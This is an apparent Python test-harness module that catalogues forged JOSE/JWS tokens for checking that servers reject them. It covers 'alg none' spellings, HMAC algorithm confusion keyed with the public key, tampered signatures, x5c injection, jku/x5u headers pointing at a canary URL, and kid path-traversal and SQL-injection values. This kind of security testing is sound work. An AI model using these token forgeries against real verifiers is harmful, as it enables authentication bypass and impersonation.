"""The JOSE attack catalogue: named ways to turn a legitimate signed request into a hostile one.

Each attack takes the request payload and an `AttackContext` (the legitimate signer, the key the
server verifies with, an attacker's key, the canary URL no server may fetch, the payload field
that names the signer) and returns the compact token to send in place of the legitimate one.
The same attacks run on every API of both specifications; what each must get is pinned in the
hostile features' Examples rows (from the specs, RFC 7515 and docs/errata.md).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwcrypto import jwk
from jwcrypto.common import base64url_decode, base64url_encode
from jwcrypto.jwa import JWA

from harness.jose.jws import ALG, Signer
from harness.pki import certs


@dataclass(frozen=True)
class AttackContext:
    """What an attack may use: the legitimate `signer` and the protected `header` it sends, the
    `public_key` the server verifies it with, an `attacker` (a key and self-signed certificate
    nobody trusts), the `canary_url` no server may fetch, and the `identity_field` of the
    payload that names who signs (the MMS `serialNumber`, the Device Service's dispatch target
    id)."""

    signer: Signer
    header: dict[str, Any]
    public_key: rsa.RSAPublicKey
    attacker: Signer
    canary_url: str
    identity_field: str


TokenAttack = Callable[[dict[str, Any], AttackContext], str]


def _b64(data: bytes) -> str:
    return base64url_encode(data)


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


def compact(
    header: dict[str, Any] | bytes, payload: dict[str, Any] | bytes, signer: Signer | None
) -> str:
    """A compact JWS of exactly this header and payload (bytes are taken as written), with an
    RS256 signature by `signer`, or an empty signature when `signer` is None."""
    head = _b64(header if isinstance(header, bytes) else _json(header))
    body = _b64(payload if isinstance(payload, bytes) else _json(payload))
    signing_input = f"{head}.{body}".encode("ascii")
    signature = _b64(signer.rs256_signature(signing_input)) if signer else ""
    return f"{head}.{body}.{signature}"


def _legit(payload: dict[str, Any], ctx: AttackContext, **header: Any) -> str:
    """Signed by the legitimate signer, its header changed by `header` (None removes one)."""
    merged = {**ctx.header, "alg": ALG, **header}
    return compact({k: v for k, v in merged.items() if v is not None}, payload, ctx.signer)


def _by_attacker(payload: dict[str, Any], ctx: AttackContext, **header: Any) -> str:
    """Signed by the attacker's key, the legitimate header changed by `header`."""
    merged = {**ctx.header, "alg": ALG, **header}
    return compact(merged, payload, ctx.attacker)


def _unsigned(alg: str, keep_signature: bool = False) -> TokenAttack:
    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        token = compact({**ctx.header, "alg": alg}, payload, None)
        if keep_signature:
            token += _legit(payload, ctx).rsplit(".", 1)[1]
        return token

    return attack


def _hmac_with_public_key(alg: str, encoding: str) -> TokenAttack:
    """Algorithm confusion: an HMAC keyed with the bytes of the verifier's public key."""

    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        pem = ctx.public_key.public_bytes(
            serialization.Encoding.PEM if encoding == "PEM" else serialization.Encoding.DER,
            serialization.PublicFormat.SubjectPublicKeyInfo,
        )
        key = jwk.JWK(kty="oct", k=_b64(pem))
        head = _b64(_json({**ctx.header, "alg": alg}))
        body = _b64(_json(payload))
        signature = JWA.signing_alg(alg).sign(key, f"{head}.{body}".encode())
        return f"{head}.{body}.{_b64(signature)}"

    return attack


def _relabelled(alg: str) -> TokenAttack:
    """The legitimate RS256 signature under a header that names another algorithm."""

    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        head, body, _ = compact({**ctx.header, "alg": alg}, payload, None).split(".")
        return f"{head}.{body}.{_b64(ctx.signer.rs256_signature(f'{head}.{body}'.encode()))}"

    return attack


def _signature(change: Callable[[bytes], bytes]) -> TokenAttack:
    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        head, body, signature = _legit(payload, ctx).split(".")
        raw = base64url_decode(signature)
        return f"{head}.{body}.{_b64(change(raw))}"

    return attack


def _flip_bit(raw: bytes) -> bytes:
    return raw[:-1] + bytes([raw[-1] ^ 1])


def _other_requests_signature(payload: dict[str, Any], ctx: AttackContext) -> str:
    head, body, _ = _legit(payload, ctx).split(".")
    other = _legit({**payload, "hostile": "another request"}, ctx).rsplit(".", 1)[1]
    return f"{head}.{body}.{other}"


def _tampered(payload: dict[str, Any], ctx: AttackContext) -> str:
    head, _, signature = _legit(payload, ctx).split(".")
    changed = {**payload, ctx.identity_field: _other_identity(payload, ctx)}
    return f"{head}.{_b64(_json(changed))}.{signature}"


def _other_identity(payload: dict[str, Any], ctx: AttackContext) -> str:
    return f"{payload.get(ctx.identity_field, '')}-hostile"


def _attacker_x5c(payload: dict[str, Any], ctx: AttackContext) -> str:
    return _by_attacker(payload, ctx, x5c=[certs.cert_to_b64der(ctx.attacker.chain[0])])


def _attacker_before_legitimate_chain(payload: dict[str, Any], ctx: AttackContext) -> str:
    chain = [certs.cert_to_b64der(c) for c in (ctx.attacker.chain[0], *ctx.signer.chain)]
    return _by_attacker(payload, ctx, x5c=chain)


def _legit_x5c_value(value: Any) -> TokenAttack:
    return lambda payload, ctx: _legit(payload, ctx, x5c=value)


def _key_reference(name: str, by_attacker: bool) -> TokenAttack:
    """A header naming a key to fetch (`jku`, `x5u`: the canary) or to take (`jwk`)."""

    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        key = jwk.JWK.from_pyca(ctx.attacker.private_key().public_key())  # type: ignore[arg-type]
        value = key.export_public(as_dict=True) if name == "jwk" else f"{ctx.canary_url}/{name}"
        build = _by_attacker if by_attacker else _legit
        return build(payload, ctx, **{name: value})

    return attack


def _kid(value: str) -> TokenAttack:
    return lambda payload, ctx: _by_attacker(payload, ctx, kid=value)


def _legit_header(**header: Any) -> TokenAttack:
    return lambda payload, ctx: _legit(payload, ctx, **header)


def _unencoded_payload(in_crit: bool) -> TokenAttack:
    """RFC 7797's `b64: false`, the signature over the raw payload while the segment still
    carries it base64url-encoded (the requests hold periods, which RFC 7797's compact form
    cannot carry). No verifier may accept it; it finds a server that reads `b64` its own way,
    or fails on it."""

    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        header = {**ctx.header, "alg": ALG, "b64": False}
        if in_crit:
            header["crit"] = ["b64"]
        head = _b64(_json(header))
        raw = _json(payload)
        signature = ctx.signer.rs256_signature(head.encode() + b"." + raw)
        return f"{head}.{_b64(raw)}.{_b64(signature)}"

    return attack


def _duplicate_header_alg(payload: dict[str, Any], ctx: AttackContext) -> str:
    members = json.dumps({**ctx.header, "alg": ALG})[1:-1]
    return compact(f'{{{members}, "alg": "none"}}'.encode(), payload, ctx.signer)


def _duplicate_identity(payload: dict[str, Any], ctx: AttackContext) -> str:
    text = json.dumps(payload)[:-1]
    other = json.dumps(_other_identity(payload, ctx))
    return compact_legit_bytes(f'{text}, "{ctx.identity_field}": {other}}}'.encode(), ctx)


def compact_legit_bytes(payload: bytes, ctx: AttackContext) -> str:
    """`payload` bytes as written, signed by the legitimate signer with its own header."""
    return compact({**ctx.header, "alg": ALG}, payload, ctx.signer)


def _identity_as(raw_json: str | bytes) -> TokenAttack:
    """Legitimately signed, the identity field's value replaced by this JSON text (bytes are
    written as they are, UTF-8 or not)."""

    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        return compact_legit_bytes(_with_identity(payload, ctx, raw_json), ctx)

    return attack


def _with_identity(payload: dict[str, Any], ctx: AttackContext, raw_json: str | bytes) -> bytes:
    marker = "identity-marker-0b5e"
    text = json.dumps({**payload, ctx.identity_field: marker}).encode()
    value = raw_json if isinstance(raw_json, bytes) else raw_json.encode()
    return text.replace(json.dumps(marker).encode(), value)


def _identity_suffixed(suffix: bytes) -> TokenAttack:
    """The identity string with `suffix` (JSON escapes or raw bytes) written inside it."""

    def attack(payload: dict[str, Any], ctx: AttackContext) -> str:
        quoted = json.dumps(str(payload.get(ctx.identity_field, ""))).encode()
        return _identity_as(quoted[:-1] + suffix + b'"')(payload, ctx)

    return attack


def _payload_bytes(make: Callable[[dict[str, Any]], bytes]) -> TokenAttack:
    return lambda payload, ctx: compact_legit_bytes(make(payload), ctx)


def _segments(change: Callable[[str], str]) -> TokenAttack:
    return lambda payload, ctx: change(_legit(payload, ctx))


def _padded(token: str) -> str:
    return ".".join(s + "=" * (-len(s) % 4) for s in token.split("."))


def _standard_alphabet(token: str) -> str:
    return token.replace("-", "+").replace("_", "/")


def _deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


TOKEN_ATTACKS: dict[str, TokenAttack] = {
    # alg: none in every spelling, and other algorithms
    "alg none": _unsigned("none"),
    "alg None": _unsigned("None"),
    "alg NONE": _unsigned("NONE"),
    "alg nOnE": _unsigned("nOnE"),
    "alg none with the signature kept": _unsigned("none", keep_signature=True),
    "alg left out": _legit_header(alg=None),
    "alg empty": _unsigned(""),
    "HS256 keyed with the public key PEM": _hmac_with_public_key("HS256", "PEM"),
    "HS256 keyed with the public key DER": _hmac_with_public_key("HS256", "DER"),
    "HS512 keyed with the public key PEM": _hmac_with_public_key("HS512", "PEM"),
    "RS256 signature labelled RS512": _relabelled("RS512"),
    "RS256 signature labelled PS256": _relabelled("PS256"),
    "RS256 signature labelled ES256": _relabelled("ES256"),
    # the signature
    "signature stripped": _segments(lambda t: t.rsplit(".", 1)[0] + "."),
    "signature truncated": _signature(lambda raw: raw[:-3]),
    "signature padded with zero bytes": _signature(lambda raw: raw + b"\x00\x00\x00"),
    "signature with one bit flipped": _signature(_flip_bit),
    "signature of all zero bytes": _signature(lambda raw: bytes(len(raw))),
    "signature of another request": _other_requests_signature,
    "payload tampered after signing": _tampered,
    "signed by a foreign key": _by_attacker,
    # x5c injection
    "x5c of the attacker's self-signed certificate": _attacker_x5c,
    "x5c of the attacker before the legitimate chain": _attacker_before_legitimate_chain,
    "x5c empty": _legit_x5c_value([]),
    "x5c a string": _legit_x5c_value("MIIB"),
    "x5c entry not base64": _legit_x5c_value(["not base64 %%%"]),
    # keys named by the header: never fetched, never taken
    "jku to the canary, foreign key": _key_reference("jku", by_attacker=True),
    "x5u to the canary, foreign key": _key_reference("x5u", by_attacker=True),
    "jwk of the foreign key": _key_reference("jwk", by_attacker=True),
    "jku to the canary, legitimate signature": _key_reference("jku", by_attacker=False),
    "x5u to the canary, legitimate signature": _key_reference("x5u", by_attacker=False),
    # kid tricks
    "kid path traversal, foreign key": _kid("../../../../../../dev/null"),
    "kid SQL injection, foreign key": _kid("x' UNION SELECT 'secret' --"),
    "kid empty, foreign key": _kid(""),
    # crit and b64
    "crit naming an unknown parameter": _legit_header(crit=["exp"], exp=1),
    "crit as a string": _legit_header(crit="exp", exp=1),
    "crit naming b64 without it": _legit_header(crit=["b64"]),
    "crit empty": _legit_header(crit=[]),
    "b64 false (RFC 7797)": _unencoded_payload(in_crit=True),
    "b64 false outside crit": _unencoded_payload(in_crit=False),
    # duplicate members
    "header alg twice, the last none": _duplicate_header_alg,
    "payload identity twice, the last another": _duplicate_identity,
    # base64url and compact-form variants
    "segments padded with =": _segments(_padded),
    "standard base64 alphabet": _segments(_standard_alphabet),
    "a space inside the token": _segments(lambda t: t[:20] + " " + t[20:]),
    "a fourth segment": _segments(lambda t: t + ".e30"),
    "header and payload only": _segments(lambda t: t.rsplit(".", 1)[0]),
    "empty token": lambda payload, ctx: "",
    "dots only": lambda payload, ctx: "..",
    # JSON oddities in the signed payload, where the signer is named
    "payload nested 10000 deep": _payload_bytes(lambda p: _deep(10_000)),
    "identity nested 100 deep": _identity_as(_deep(100)),
    "identity with a lone surrogate": _identity_suffixed(b"\\ud800"),
    "identity with a NUL": _identity_suffixed(b"\\u0000"),
    "identity with bytes that are not UTF-8": _identity_suffixed(b"\xff\xfe"),
    "identity NaN": _identity_as("NaN"),
    "identity Infinity": _identity_as("-Infinity"),
    "identity a number too large for a double": _identity_as("1e999"),
    "identity true": _identity_as("true"),
    "identity 100 KB long": _identity_as(json.dumps("A" * 100_000)),
    "identity with SQL injection": _identity_as(json.dumps("' OR '1'='1")),
    "payload not JSON": _payload_bytes(lambda p: b"not JSON at all"),
    "payload empty": _payload_bytes(lambda p: b""),
    "payload with trailing garbage": _payload_bytes(lambda p: _json(p) + b" }garbage"),
}


def attack(name: str, payload: dict[str, Any], ctx: AttackContext) -> str:
    """The token of the named attack on `payload`; KeyError lists the known names."""
    try:
        build = TOKEN_ATTACKS[name]
    except KeyError:
        known = ", ".join(TOKEN_ATTACKS)
        raise KeyError(f"unknown attack {name!r}; known: {known}") from None
    return build(payload, ctx)
